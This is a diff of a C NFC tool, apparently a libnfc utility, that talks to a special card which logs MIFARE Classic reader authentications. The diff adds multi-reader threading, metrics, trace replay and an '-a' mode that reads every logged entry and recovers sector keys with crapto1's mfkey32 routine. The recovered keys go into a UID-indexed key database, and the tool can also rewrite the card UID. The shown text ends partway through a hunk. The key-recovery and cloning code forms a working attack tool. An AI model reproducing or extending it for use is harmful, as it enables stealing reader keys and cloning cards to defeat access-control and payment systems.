@@ -54,50 +54,77 @@
 #include <stdint.h>
 #include <stdbool.h>
 #include <string.h>
+#include <inttypes.h>
+#include <pthread.h>
+#include <time.h>
 
 #include <nfc/nfc.h>
 
 #include "nfc-utils.h"
+#include "iso-dep.h"
+#include "mf-keydb.h"
+#include "latency-model.h"
+#include "metrics.h"
+#include "nfc-transport.h"
 #include "crapto1.h"
 
 #define SAK_FLAG_ATS_SUPPORTED 0x20
 
 #define MAX_FRAME_LEN 264
-
-static uint8_t abtRx[MAX_FRAME_LEN];
-static int szRxBits;
-static uint8_t abtRawUid[12];
-static uint8_t abtAtqa[2];
-static uint8_t abtSak;
-static uint8_t abtAts[MAX_FRAME_LEN];
-static uint8_t szAts = 0;
-static size_t szCL = 1;//Always start with Cascade Level 1 (CL1)
-static nfc_device *pnd;
+#define MAX_DEVICE_COUNT 16
+#define MAX_LOG_ENTRIES 64
+
+// Everything that belongs to one reader and the card presented to it
+struct cpu_session {
+  nfc_device *pnd;
+  size_t szDevice;
+  uint8_t abtRx[MAX_FRAME_LEN];
+  int szRxBits;
+  uint8_t abtRawUid[12];
+  uint8_t abtAtqa[2];
+  uint8_t abtSak;
+  uint8_t abtAts[MAX_FRAME_LEN];
+  uint8_t szAts;
+  size_t szCL;
+  bool iso_ats_supported;
+  iso_dep *pid;
+  bool bSuccess;
+};
+
+static nfc_context *context;
 
 bool    quiet_output = true;
-bool    iso_ats_supported = false;
-
-uint8_t zero_one_switch = 1;
+bool    multi_device = false;
+bool    writeUid = false;
+bool    resetCount = false;
+bool    readData = false;
+bool    readAllData = false;
+uint8_t card_uid[4] = {0x00, 0x00, 0x00, 0x00};
+const char *device = NULL;
+const char *keydb_path = NULL;
+mf_keydb *keydb = NULL;
+const char *latency_path = NULL;
+const char *metrics_path = NULL;
+const char *record_path = NULL;
+const char *replay_path = NULL;
+bool    replay_paced = false;
 
 // ISO14443A Anti-Collision Commands
-uint8_t  abtReqa[1] = { 0x26 };
-uint8_t  abtSelectAll[2] = { 0x93, 0x20 };
-uint8_t  abtSelectTag[9] = { 0x93, 0x70, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00 };
-uint8_t  abtRats[4] = { 0xe0, 0x50, 0x00, 0x00 };
-uint8_t  abtHalt[4] = { 0x50, 0x00, 0x00, 0x00 };
+const uint8_t  abtReqa[1] = { 0x26 };
 #define CASCADE_BIT 0x04
 
-// special unlock command
-uint8_t  abtUnlock1[1] = { 0x40 };
-uint8_t  abtUnlock2[1] = { 0x43 };
-uint8_t  abtWipe[1] = { 0x41 };
-uint8_t abtWrite[4] = { 0xa0,  0x00,  0x5f,  0xb1 };
-uint8_t abtData[18] = { 0x01,  0x23,  0x45,  0x67,  0x00,  0x08,  0x04,  0x00,  0x46,  0x59,  0x25,  0x58,  0x49,  0x10,  0x23,  0x02,  0x23,  0xeb };
-uint8_t abtBlank[18] = { 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x07, 0x80, 0x69, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x36, 0xCC };
+static pthread_mutex_t output_mutex = PTHREAD_MUTEX_INITIALIZER;
 
+// One logged authentication: the key and block asked for, the encrypted reader nonce and answer
+struct auth_entry {
+  uint8_t btKey;
+  uint8_t btBlock;
+  uint32_t uiNr;
+  uint32_t uiAr;
+};
 
 static  bool
-transmit_bits(const uint8_t *pbtTx, const size_t szTxBits)
+transmit_bits(struct cpu_session *s, const uint8_t *pbtTx, const size_t szTxBits)
 {
   // Show transmitted command
   if (!quiet_output) {
@@ -105,20 +132,24 @@ transmit_bits(const uint8_t *pbtTx, const size_t szTxBits)
     print_hex_bits(pbtTx, szTxBits);
   }
   // Transmit the bit frame command, we don't use the arbitrary parity feature
-  if ((szRxBits = nfc_initiator_transceive_bits(pnd, pbtTx, szTxBits, NULL, abtRx, sizeof(abtRx), NULL)) < 0)
+  struct timespec tsStart;
+  clock_gettime(CLOCK_MONOTONIC, &tsStart);
+  s->szRxBits = nfct_initiator_transceive_bits(s->pnd, pbtTx, szTxBits, NULL, s->abtRx, sizeof(s->abtRx), NULL);
+  metrics_time(s->pnd, METRIC_RAW_BITS, &tsStart);
+  if (s->szRxBits < 0)
     return false;
 
   // Show received answer
   if (!quiet_output) {
     printf("Received bits: ");
-    print_hex_bits(abtRx, szRxBits);printf(" ATS: ");
+    print_hex_bits(s->abtRx, s->szRxBits);printf(" ATS: ");
   }
   // Succesful transfer
   return true;
 }
 
 static  bool
-transmit_bytes(const uint8_t *pbtTx, const size_t szTx)
+transmit_bytes(struct cpu_session *s, const uint8_t *pbtTx, const size_t szTx)
 {
   // Show transmitted command
   if (!quiet_output) {
@@ -126,27 +157,44 @@ transmit_bytes(const uint8_t *pbtTx, const size_t szTx)
     print_hex(pbtTx, szTx);
   }
   int res;
-  // Transmit the command bytes
-  if ((res = nfc_initiator_transceive_bytes(pnd, pbtTx, szTx, abtRx, sizeof(abtRx), 0)) < 0)
+  struct timespec tsStart;
+  // Transmit the command bytes, with the learned timeout once there is one
+  clock_gettime(CLOCK_MONOTONIC, &tsStart);
+  res = nfct_initiator_transceive_bytes(s->pnd, pbtTx, szTx, s->abtRx, sizeof(s->abtRx), latency_timeout(s->pnd, LATENCY_RAW));
+  metrics_time(s->pnd, METRIC_RAW_BYTES, &tsStart);
+  if (res < 0)
     return false;
+  latency_record(s->pnd, LATENCY_RAW, &tsStart);
 
   // Show received answer
   if (!quiet_output) {
     printf("Received bits: ");
-    print_hex(abtRx, res);
+    print_hex(s->abtRx, res);
   }
   // Succesful transfer
   return true;
 }
 
-void auto_switch(uint8_t *pbtTx)
+static  bool
+transmit_apdu(struct cpu_session *s, const uint8_t *pbtTx, const size_t szTx)
 {
-  if(pbtTx[0] == 0x0a){
-    zero_one_switch = (zero_one_switch == 0)?1:0;
-    if(zero_one_switch == 1){
-        pbtTx[0] = 0x0b;
-    }
+  // Show transmitted APDU
+  if (!quiet_output) {
+    printf("Sent APDU:     ");
+    print_hex(pbtTx, szTx);
+  }
+  // ISO-DEP takes care of the block framing, chaining and recovery
+  int res = iso_dep_transceive(s->pid, pbtTx, szTx, s->abtRx, sizeof(s->abtRx));
+  if (res < 0)
+    return false;
+
+  // Show received answer
+  if (!quiet_output) {
+    printf("Received APDU: ");
+    print_hex(s->abtRx, res);
   }
+  // Succesful transfer
+  return true;
 }
 
 uint32_t prepare_uint32(uint8_t* value) {
@@ -157,11 +205,150 @@ uint32_t prepare_uint32(uint8_t* value) {
 	temp[2] = value[1];
 	temp[3] = value[0];
 
-	result = *(uint32_t*)&temp;
+	memcpy(&result, temp, sizeof(result));
 	//printf("%x\n", result);
 	return result;
 }
 
+/**
+ * Log item of an entry: the first two entries are items 0 and 1, items 2
+ * and 3 hold the UID and the count, later entries follow from item 4 on.
+ */
+static uint8_t
+log_item(size_t szEntry)
+{
+  return (szEntry < 2) ? szEntry : 2 + szEntry;
+}
+
+static bool
+read_log_entry(struct cpu_session *s, size_t szEntry, struct auth_entry *pae)
+{
+  const uint8_t abtReadData[5] = {0x00, 0xae, 0x00, log_item(szEntry), 0x00};
+
+  if (!transmit_apdu(s, abtReadData, sizeof(abtReadData)))
+    return false;
+  pae->btKey = s->abtRx[0];
+  pae->btBlock = s->abtRx[1];
+  pae->uiNr = prepare_uint32(&s->abtRx[2]);
+  pae->uiAr = prepare_uint32(&s->abtRx[6]);
+  printf("  Count:%zu, Key:%02x, Block:%02x\tDone!\n", szEntry, pae->btKey, pae->btBlock);
+  return true;
+}
+
+/**
+ * mfkey32: the key from two authentications with the same key, the card
+ * nonce being 0 on these cards
+ */
+static bool
+recover_key(uint32_t uid, const struct auth_entry *pae1, const struct auth_entry *pae2, uint64_t *pui64Key)
+{
+  uint32_t chal = 0x00000000, chal2 = 0x00000000;
+  struct Crypto1State *states = lfsr_recovery32(pae1->uiAr ^ prng_successor(chal, 64), 0), *t;
+  bool bFound = false;
+
+  if (states == NULL)
+    return false;
+  for (t = states; t->odd | t->even; ++t) {
+    lfsr_rollback_word(t, 0, 0);
+    lfsr_rollback_word(t, pae1->uiNr, 1);
+    lfsr_rollback_word(t, uid ^ chal, 0);
+    crypto1_get_lfsr(t, pui64Key);
+    crypto1_word(t, uid ^ chal2, 0);
+    crypto1_word(t, pae2->uiNr, 1);
+    if (pae2->uiAr == (crypto1_word(t, 0, 0) ^ prng_successor(chal2, 64))) {
+      bFound = true;
+      break;
+    }
+  }
+  free(states);
+  return bFound;
+}
+
+static void
+store_key(const uint8_t *read_uid, const struct auth_entry *pae, uint64_t key)
+{
+  uint8_t abtKey[6];
+
+  if (keydb == NULL)
+    return;
+  for (int n = 0; n < 6; n++)
+    abtKey[n] = (uint8_t)(key >> (40 - 8 * n));
+  if (!mf_keydb_put(keydb, read_uid, 4, mf_keydb_sector(pae->btBlock), (pae->btKey & 0x01) != 0, abtKey))
+    ERR("Unable to store key in key database: %s", keydb_path);
+}
+
+/**
+ * Every logged authentication in one session, grouped by key and sector,
+ * and every key two entries of a group give
+ */
+static void
+recover_all_keys(struct cpu_session *s, const uint8_t *read_uid, uint8_t uiCount)
+{
+  struct auth_entry aae[MAX_LOG_ENTRIES];
+  bool abGrouped[MAX_LOG_ENTRIES] = { false };
+  size_t szEntries = 0, szKeys = 0, szGroups = 0;
+  uint32_t uid = prepare_uint32((uint8_t *) read_uid);
+
+  if (uiCount > MAX_LOG_ENTRIES) {
+    pthread_mutex_lock(&output_mutex);
+    if (multi_device)
+      printf("[%zu] ", s->szDevice);
+    printf("  %u entries logged, reading the first %d\n", uiCount, MAX_LOG_ENTRIES);
+    pthread_mutex_unlock(&output_mutex);
+    uiCount = MAX_LOG_ENTRIES;
+  }
+  while (szEntries < uiCount && read_log_entry(s, szEntries, &aae[szEntries]))
+    szEntries++;
+  if (szEntries < uiCount) {
+    pthread_mutex_lock(&output_mutex);
+    if (multi_device)
+      printf("[%zu] ", s->szDevice);
+    printf("  Entry %zu could not be read, recovering from %zu entries\n", szEntries, szEntries);
+    pthread_mutex_unlock(&output_mutex);
+  }
+
+  for (size_t i = 0; i < szEntries; i++) {
+    size_t aszGroup[MAX_LOG_ENTRIES], szGroup = 0;
+    uint8_t uiSector = mf_keydb_sector(aae[i].btBlock);
+    char cKey = (aae[i].btKey & 0x01) ? 'B' : 'A';
+    uint64_t key;
+    bool bFound = false;
+
+    if (abGrouped[i])
+      continue;
+    for (size_t j = i; j < szEntries; j++) {
+      if (!abGrouped[j] && ((aae[j].btKey ^ aae[i].btKey) & 0x01) == 0 && mf_keydb_sector(aae[j].btBlock) == uiSector) {
+        abGrouped[j] = true;
+        aszGroup[szGroup++] = j;
+      }
+    }
+    szGroups++;
+    // A wrong guess of the reader spoils its entry, try the other pairs before giving up
+    for (size_t a = 0; a < szGroup && !bFound; a++) {
+      for (size_t b = a + 1; b < szGroup && !bFound; b++)
+        bFound = recover_key(uid, &aae[aszGroup[a]], &aae[aszGroup[b]], &key);
+    }
+    pthread_mutex_lock(&output_mutex);
+    if (multi_device)
+      printf("[%zu] ", s->szDevice);
+    if (bFound) {
+      printf("Key %c of sector %u: %012" PRIx64 "\n", cKey, uiSector, key);
+      store_key(read_uid, &aae[i], key);
+      szKeys++;
+    } else if (szGroup < 2) {
+      printf("Key %c of sector %u: one authentication logged, two are needed\n", cKey, uiSector);
+    } else {
+      printf("Key %c of sector %u: not found in %zu authentications\n", cKey, uiSector, szGroup);
+    }
+    pthread_mutex_unlock(&output_mutex);
+  }
+  pthread_mutex_lock(&output_mutex);
+  if (multi_device)
+    printf("[%zu] ", s->szDevice);
+  printf("%zu key(s) recovered from %zu entries in %zu key/sector pair(s)\n", szKeys, szEntries, szGroups);
+  pthread_mutex_unlock(&output_mutex);
+}
+
 static void
 print_usage(char *argv[])
 {
@@ -178,91 +365,35 @@ print_usage(char *argv[])
   printf("\t-w\tWrite UID to the card, [UID] is mandatory if this option set.\n");
   printf("\t-i\tReset read count.\n");
   printf("\t-r\tRead scan result.\n");
+  printf("\t-a\tRead every logged authentication and recover the key of each key type and sector seen twice.\n");
+  printf("\t-m\tUse every attached reader, one worker thread per reader.\n");
+  printf("\t-c <device>\tOpen the reader with this libnfc connection string, by default the reader that last opened on this host is tried before scanning.\n");
+  printf("\t-K <keydb>\tStore recovered keys in the key database, indexed by UID.\n");
+  printf("\t-M <metrics>\tWrite latency histograms and counters at exit and on SIGUSR1 (Prometheus if *.prom, else JSON).\n");
+  printf("\t-O <trace>\tRecord every reader exchange to <trace>.\n");
+  printf("\t-I <trace>\tReplay <trace> instead of using readers, -P keeps the recorded timing.\n");
+  printf("\t-T <latency>\tLearn response latencies and time out silent commands early, keep them in <latency>.\n");
   printf("\n\tSpecify UID (4 HEX bytes) to set UID, or leave blank for default 'FFFFFFFF'.\n");
 }
 
-
-
-int
-main(int argc, char *argv[])
+static bool
+init_device(nfc_device *pnd)
 {
-  int      arg, i;
-  //bool     format = false;
-  unsigned int c;
-  char     tmp[3] = { 0x00, 0x00, 0x00 };
-  bool     writeUid = false;
-  bool     resetCount = false;
-  bool     readData = false;
-  uint8_t  read_uid[4] = {0x00, 0x00, 0x00, 0x00};
-  uint8_t  card_uid[4] = {0x00, 0x00, 0x00, 0x00};
-
-
-  // Get commandline options
-  for (arg = 1; arg < argc; arg++) {
-    if (0 == strcmp(argv[arg], "-h")) {
-      print_usage(argv);
-      exit(EXIT_SUCCESS);
-    } else if (0 == strcmp(argv[arg], "-w")) {
-      writeUid = true;
-    } else if (0 == strcmp(argv[arg], "-i")) {
-      resetCount = true;
-    } else if (0 == strcmp(argv[arg], "-r")) {
-	  readData = true;	
-	} else if (0 == strcmp(argv[arg], "-d")) {
-	  quiet_output = false;	
-	} else if (strlen(argv[arg]) == 8) {
-      for (i = 0 ; i < 4 ; ++i) {
-        memcpy(tmp, argv[arg] + i * 2, 2);
-        sscanf(tmp, "%02x", &c);
-        //abtData[i] = (char) c;
-		card_uid[i] = (char) c;
-      }
-      //abtData[4] = abtData[0] ^ abtData[1] ^ abtData[2] ^ abtData[3];
-      //iso14443a_crc_append(abtData, 16);
-    } else {
-      ERR("%s is not supported option.", argv[arg]);
-      print_usage(argv);
-      exit(EXIT_FAILURE);
-    }
-  }
-
-  nfc_context *context;
-  nfc_init(&context);
-  if (context == NULL) {
-    ERR("Unable to init libnfc (malloc)");
-    exit(EXIT_FAILURE);
-  }
-
-  // Try to open the NFC reader
-  pnd = nfc_open(context, NULL);
-
-  if (pnd == NULL) {
-    ERR("Error opening NFC reader");
-    nfc_exit(context);
-    exit(EXIT_FAILURE);
-  }
-
   // Initialise NFC device as "initiator"
-  if (nfc_initiator_init(pnd) < 0) {
-    nfc_perror(pnd, "nfc_initiator_init");
-    nfc_close(pnd);
-    nfc_exit(context);
-    exit(EXIT_FAILURE);
+  if (nfct_initiator_init(pnd) < 0) {
+    nfct_perror(pnd, "nfc_initiator_init");
+    return false;
   }
 
   // Configure the CRC
-  if (nfc_device_set_property_bool(pnd, NP_HANDLE_CRC, false) < 0) {
-    nfc_perror(pnd, "nfc_device_set_property_bool");
-    nfc_close(pnd);
-    nfc_exit(context);
-    exit(EXIT_FAILURE);
+  if (nfct_device_set_property_bool(pnd, NP_HANDLE_CRC, false) < 0) {
+    nfct_perror(pnd, "nfc_device_set_property_bool");
+    return false;
   }
   // Use raw send/receive methods
-  if (nfc_device_set_property_bool(pnd, NP_EASY_FRAMING, false) < 0) {
-    nfc_perror(pnd, "nfc_device_set_property_bool");
-    nfc_close(pnd);
-    nfc_exit(context);
-    exit(EXIT_FAILURE);
+  if (nfct_device_set_property_bool(pnd, NP_EASY_FRAMING, false) < 0) {
+    nfct_perror(pnd, "nfc_device_set_property_bool");
+    return false;
   }
   // Disable 14443-4 autoswitching
   //if (nfc_device_set_property_bool(pnd, NP_AUTO_ISO14443_4, false) < 0) {
@@ -272,129 +403,156 @@ main(int argc, char *argv[])
   //  exit(EXIT_FAILURE);
   //}
 
-  printf("NFC reader: %s opened\n", nfc_device_get_name(pnd));
+  printf("NFC reader: %s opened\n", nfct_device_get_name(pnd));
+  return true;
+}
+
+static bool
+select_card(struct cpu_session *s)
+{
+  uint8_t  abtSelectAll[2] = { 0x93, 0x20 };
+  uint8_t  abtSelectTag[9] = { 0x93, 0x70, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00 };
+
+  s->szCL = 1;//Always start with Cascade Level 1 (CL1)
 
   // Send the 7 bits request command specified in ISO 14443A (0x26)
-  if (!transmit_bits(abtReqa, 7)) {
+  if (!transmit_bits(s, abtReqa, 7)) {
     printf("Error: No tag available\n");
-    nfc_close(pnd);
-    nfc_exit(context);
-    exit(EXIT_FAILURE);
+    return false;
   }
-  memcpy(abtAtqa, abtRx, 2);
+  memcpy(s->abtAtqa, s->abtRx, 2);
 
   // Anti-collision
-  transmit_bytes(abtSelectAll, 2);
+  transmit_bytes(s, abtSelectAll, 2);
 
   // Check answer
-  if ((abtRx[0] ^ abtRx[1] ^ abtRx[2] ^ abtRx[3] ^ abtRx[4]) != 0) {
+  if ((s->abtRx[0] ^ s->abtRx[1] ^ s->abtRx[2] ^ s->abtRx[3] ^ s->abtRx[4]) != 0) {
     printf("WARNING: BCC check failed!\n");
   }
 
   // Save the UID CL1
-  memcpy(abtRawUid, abtRx, 4);
+  memcpy(s->abtRawUid, s->abtRx, 4);
 
   //Prepare and send CL1 Select-Command
-  memcpy(abtSelectTag + 2, abtRx, 5);
+  memcpy(abtSelectTag + 2, s->abtRx, 5);
   iso14443a_crc_append(abtSelectTag, 7);
-  transmit_bytes(abtSelectTag, 9);
-  abtSak = abtRx[0];
+  transmit_bytes(s, abtSelectTag, 9);
+  s->abtSak = s->abtRx[0];
 
   // Test if we are dealing with a CL2
-  if (abtSak & CASCADE_BIT) {
-    szCL = 2;//or more
+  if (s->abtSak & CASCADE_BIT) {
+    s->szCL = 2;//or more
     // Check answer
-    if (abtRawUid[0] != 0x88) {
+    if (s->abtRawUid[0] != 0x88) {
       printf("WARNING: Cascade bit set but CT != 0x88!\n");
     }
   }
 
-  if (szCL == 2) {
+  if (s->szCL == 2) {
     // We have to do the anti-collision for cascade level 2
 
     // Prepare CL2 commands
     abtSelectAll[0] = 0x95;
 
     // Anti-collision
-    transmit_bytes(abtSelectAll, 2);
+    transmit_bytes(s, abtSelectAll, 2);
 
     // Check answer
-    if ((abtRx[0] ^ abtRx[1] ^ abtRx[2] ^ abtRx[3] ^ abtRx[4]) != 0) {
+    if ((s->abtRx[0] ^ s->abtRx[1] ^ s->abtRx[2] ^ s->abtRx[3] ^ s->abtRx[4]) != 0) {
       printf("WARNING: BCC check failed!\n");
     }
 
     // Save UID CL2
-    memcpy(abtRawUid + 4, abtRx, 4);
+    memcpy(s->abtRawUid + 4, s->abtRx, 4);
 
     // Selection
     abtSelectTag[0] = 0x95;
-    memcpy(abtSelectTag + 2, abtRx, 5);
+    memcpy(abtSelectTag + 2, s->abtRx, 5);
     iso14443a_crc_append(abtSelectTag, 7);
-    transmit_bytes(abtSelectTag, 9);
-    abtSak = abtRx[0];
+    transmit_bytes(s, abtSelectTag, 9);
+    s->abtSak = s->abtRx[0];
 
     // Test if we are dealing with a CL3
-    if (abtSak & CASCADE_BIT) {
-      szCL = 3;
+    if (s->abtSak & CASCADE_BIT) {
+      s->szCL = 3;
       // Check answer
-      if (abtRawUid[0] != 0x88) {
+      if (s->abtRawUid[0] != 0x88) {
         printf("WARNING: Cascade bit set but CT != 0x88!\n");
       }
     }
 
-    if (szCL == 3) {
+    if (s->szCL == 3) {
       // We have to do the anti-collision for cascade level 3
 
       // Prepare and send CL3 AC-Command
       abtSelectAll[0] = 0x97;
-      transmit_bytes(abtSelectAll, 2);
+      transmit_bytes(s, abtSelectAll, 2);
 
       // Check answer
-      if ((abtRx[0] ^ abtRx[1] ^ abtRx[2] ^ abtRx[3] ^ abtRx[4]) != 0) {
+      if ((s->abtRx[0] ^ s->abtRx[1] ^ s->abtRx[2] ^ s->abtRx[3] ^ s->abtRx[4]) != 0) {
         printf("WARNING: BCC check failed!\n");
       }
 
       // Save UID CL3
-      memcpy(abtRawUid + 8, abtRx, 4);
+      memcpy(s->abtRawUid + 8, s->abtRx, 4);
 
       // Prepare and send final Select-Command
       abtSelectTag[0] = 0x97;
-      memcpy(abtSelectTag + 2, abtRx, 5);
+      memcpy(abtSelectTag + 2, s->abtRx, 5);
       iso14443a_crc_append(abtSelectTag, 7);
-      transmit_bytes(abtSelectTag, 9);
-      abtSak = abtRx[0];
+      transmit_bytes(s, abtSelectTag, 9);
+      s->abtSak = s->abtRx[0];
     }
   }
 
   // Request ATS, this only applies to tags that support ISO 14443A-4
-  if (abtRx[0] & SAK_FLAG_ATS_SUPPORTED) {
-    iso_ats_supported = true;
+  if (s->abtRx[0] & SAK_FLAG_ATS_SUPPORTED) {
+    s->iso_ats_supported = true;
   }
 
+  // Keep the block below in one piece when several readers report at once
+  pthread_mutex_lock(&output_mutex);
+  if (multi_device)
+    printf("\n[%zu]", s->szDevice);
   printf("\nFound tag with\n UID: ");
-  switch (szCL) {
+  switch (s->szCL) {
     case 1:
-      printf("%02x%02x%02x%02x", abtRawUid[0], abtRawUid[1], abtRawUid[2], abtRawUid[3]);
+      printf("%02x%02x%02x%02x", s->abtRawUid[0], s->abtRawUid[1], s->abtRawUid[2], s->abtRawUid[3]);
       break;
     case 2:
-      printf("%02x%02x%02x", abtRawUid[1], abtRawUid[2], abtRawUid[3]);
-      printf("%02x%02x%02x%02x", abtRawUid[4], abtRawUid[5], abtRawUid[6], abtRawUid[7]);
+      printf("%02x%02x%02x", s->abtRawUid[1], s->abtRawUid[2], s->abtRawUid[3]);
+      printf("%02x%02x%02x%02x", s->abtRawUid[4], s->abtRawUid[5], s->abtRawUid[6], s->abtRawUid[7]);
       break;
     case 3:
-      printf("%02x%02x%02x", abtRawUid[1], abtRawUid[2], abtRawUid[3]);
-      printf("%02x%02x%02x", abtRawUid[5], abtRawUid[6], abtRawUid[7]);
-      printf("%02x%02x%02x%02x", abtRawUid[8], abtRawUid[9], abtRawUid[10], abtRawUid[11]);
+      printf("%02x%02x%02x", s->abtRawUid[1], s->abtRawUid[2], s->abtRawUid[3]);
+      printf("%02x%02x%02x", s->abtRawUid[5], s->abtRawUid[6], s->abtRawUid[7]);
+      printf("%02x%02x%02x%02x", s->abtRawUid[8], s->abtRawUid[9], s->abtRawUid[10], s->abtRawUid[11]);
       break;
   }
   printf("\n");
-  printf("ATQA: %02x%02x\n SAK: %02x\n", abtAtqa[1], abtAtqa[0], abtSak);
-  if (szAts > 1) { // if = 1, it's not actual ATS but error code
+  printf("ATQA: %02x%02x\n SAK: %02x\n", s->abtAtqa[1], s->abtAtqa[0], s->abtSak);
+  if (s->szAts > 1) { // if = 1, it's not actual ATS but error code
     printf(" ATS: ");
-    print_hex(abtAts, szAts);
+    print_hex(s->abtAts, s->szAts);
   }
   printf("\n");
+  pthread_mutex_unlock(&output_mutex);
+  return true;
+}
 
+static bool
+process_card(struct cpu_session *s)
+{
+  uint8_t  read_uid[4] = {0x00, 0x00, 0x00, 0x00};
 
+  struct timespec tsStart;
+
+  clock_gettime(CLOCK_MONOTONIC, &tsStart);
+  if (!select_card(s))
+    return false;
+  metrics_time(s->pnd, METRIC_SELECT, &tsStart);
+  if (latency_path != NULL)
+    latency_attach(s->pnd, s->abtAtqa, s->abtSak);
 
   // now reset UID
   //iso14443a_crc_append(abtHalt, 2);
@@ -419,45 +577,33 @@ main(int argc, char *argv[])
 
 
   //uint8_t abtNeverUse = {0x0a, 0x00, 0x00, 0xaa, 0x00, 0x00, 0x00, 0x00, 0x00};
-  uint8_t abtReadData00[9]  = {0x0a, 0x00, 0x00, 0xae, 0x00, 0x00, 0x00, 0x00, 0x00};
-  uint8_t abtReadData01[9]  = {0x0a, 0x00, 0x00, 0xae, 0x00, 0x01, 0x00, 0x00, 0x00};
-  uint8_t abtReadUid[9]     = {0x0a, 0x00, 0x00, 0xae, 0x00, 0x02, 0x00, 0x00, 0x00};
-  uint8_t abtWriteUid[14]   = {0x0a, 0x00, 0x00, 0xae, 0x01, 0x02, 0x05, 0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00};
-  uint8_t abtReadCount[9]   = {0x0a, 0x00, 0x00, 0xae, 0x00, 0x03, 0x00, 0x00, 0x00};
-  uint8_t abtWriteCount[10] = {0x0a, 0x00, 0x00, 0xae, 0x01, 0x03, 0x01, 0x00, 0x00, 0x00};
+  const uint8_t abtReadUid[5]    = {0x00, 0xae, 0x00, 0x02, 0x00};
+  uint8_t       abtWriteUid[10]  = {0x00, 0xae, 0x01, 0x02, 0x05, 0xff, 0xff, 0xff, 0xff, 0x00};
+  const uint8_t abtReadCount[5]  = {0x00, 0xae, 0x00, 0x03, 0x00};
+  const uint8_t abtWriteCount[6] = {0x00, 0xae, 0x01, 0x03, 0x01, 0x00};
 
   // send rats to enable CPU card
   printf("Sending RATS... ");
-  iso14443a_crc_append(abtRats, 2);
-  if(transmit_bytes(abtRats, 4)){
-	  printf("\tDone! \n");
+  if ((s->pid = iso_dep_activate(s->pnd, 0, NULL)) == NULL) {
+	  printf("\tno ISO14443-4 answer\n");
+	  return false;
   }
-
+  printf("\tDone! \n");
 
   // read uid
   printf("Reading uid: ");
-  auto_switch(abtReadUid);
-  iso14443a_crc_append(abtReadUid, 7);
-  if(transmit_bytes(abtReadUid, 9)){
-      printf("%02x%02x%02x%02x", abtRx[2], abtRx[3], abtRx[4], abtRx[5]);
+  if(transmit_apdu(s, abtReadUid, sizeof(abtReadUid))){
+      printf("%02x%02x%02x%02x", s->abtRx[0], s->abtRx[1], s->abtRx[2], s->abtRx[3]);
 	  printf("\tDone! \n");
-	  read_uid[0] = abtRx[2];
-	  read_uid[1] = abtRx[3];
-	  read_uid[2] = abtRx[4];
-	  read_uid[3] = abtRx[5];	  
+	  memcpy(read_uid, s->abtRx, 4);
   }
 
   // write uid
   if(writeUid) {
 	  printf("Writing uid: ");
 	  printf("%02x%02x%02x%02x", card_uid[0], card_uid[1], card_uid[2], card_uid[3]);
-	  abtWriteUid[7] = card_uid[0];
-	  abtWriteUid[8] = card_uid[1];
-	  abtWriteUid[9] = card_uid[2];
-	  abtWriteUid[10] = card_uid[3];
-      auto_switch(abtWriteUid);
-	  iso14443a_crc_append(abtWriteUid, 12);
-	  if(transmit_bytes(abtWriteUid, 14)){
+	  memcpy(abtWriteUid + 5, card_uid, 4);
+	  if(transmit_apdu(s, abtWriteUid, sizeof(abtWriteUid))){
 		  printf("\tDone! \n");
 	  }
   }
@@ -465,68 +611,212 @@ main(int argc, char *argv[])
   // reset count
   if(resetCount) {
 	  printf("Resetting count... ");
-      auto_switch(abtWriteCount);
-	  iso14443a_crc_append(abtWriteCount, 8);
-	  if(transmit_bytes(abtWriteCount, 10)){
+	  if(transmit_apdu(s, abtWriteCount, sizeof(abtWriteCount))){
 		  printf("\tDone! \n");
 	  }
   }
 
   // read data
-  if(readData) {
+  if(readData || readAllData) {
 	  printf("Reading data: ");
-      auto_switch(abtReadCount);
-	  iso14443a_crc_append(abtReadCount, 7);
-	  if(transmit_bytes(abtReadCount, 9)){
-		  printf("\tRead count:%d\tDone!\n", abtRx[2]);
+	  if(transmit_apdu(s, abtReadCount, sizeof(abtReadCount))){
+		  printf("\tRead count:%d\tDone!\n", s->abtRx[0]);
 	  }
 
-	  if(abtRx[2] == 2) {
-		  auto_switch(abtReadData00);
-		  iso14443a_crc_append(abtReadData00, 7);
-		  transmit_bytes(abtReadData00, 9);
-		  printf("  Count:0, Key:%02x, Block:%02x\tDone!\n", abtRx[2], abtRx[3]);
-		  /*printf("\tData:0, Key:%02x, Block:%02x, Reader challenge:%02x%02x%02x%02x, Reader Response:%02x%02x%02x%02x\tDone!\n",
-				  abtRx[2], abtRx[3],
-				  abtRx[4], abtRx[5], abtRx[6], abtRx[7],
-				  abtRx[8], abtRx[9], abtRx[10], abtRx[11]);*/
-		  
-		  uint32_t uid = prepare_uint32(read_uid);
-		  uint32_t chal = 0x00000000;
-		  uint32_t rchal = prepare_uint32(&abtRx[4]);
-		  uint32_t rresp = prepare_uint32(&abtRx[8]);
-		  
-		  auto_switch(abtReadData01);
-		  iso14443a_crc_append(abtReadData01, 7);
-		  transmit_bytes(abtReadData01, 9);
-		  printf("  Count:1, Key:%02x, Block:%02x\tDone!\n", abtRx[2], abtRx[3]);
-		  /*printf("\tData:1, Key:%02x, Block:%02x, Reader challenge:%02x%02x%02x%02x, Reader Response:%02x%02x%02x%02x\tDone!\n",
-				  abtRx[2], abtRx[3],
-				  abtRx[4], abtRx[5], abtRx[6], abtRx[7],
-				  abtRx[8], abtRx[9], abtRx[10], abtRx[11]);*/
-
-		  uint32_t chal2 = 0x00000000;
-		  uint32_t rchal2 = prepare_uint32(&abtRx[4]);
-		  uint32_t rresp2 = prepare_uint32(&abtRx[8]);
+	  if (readAllData) {
+		  recover_all_keys(s, read_uid, s->abtRx[0]);
+	  } else if(s->abtRx[0] == 2) {
+		  struct auth_entry ae0, ae1;
 		  uint64_t key;
 
-		struct Crypto1State *s = lfsr_recovery32(rresp ^ prng_successor(chal, 64), 0), *t;
-		for(t = s; t->odd | t->even; ++t) {
-			lfsr_rollback_word(t, 0, 0);
-			lfsr_rollback_word(t, rchal, 1);
-			lfsr_rollback_word(t, uid ^ chal, 0);
-			crypto1_get_lfsr(t, &key);
-			crypto1_word(t, uid ^ chal2, 0);
-			crypto1_word(t, rchal2, 1);
-			if (rresp2 == (crypto1_word(t, 0, 0) ^ prng_successor(chal2, 64))) {
-				printf("\nKey found: %llx\n", key);
-				break;
-			}
-		}
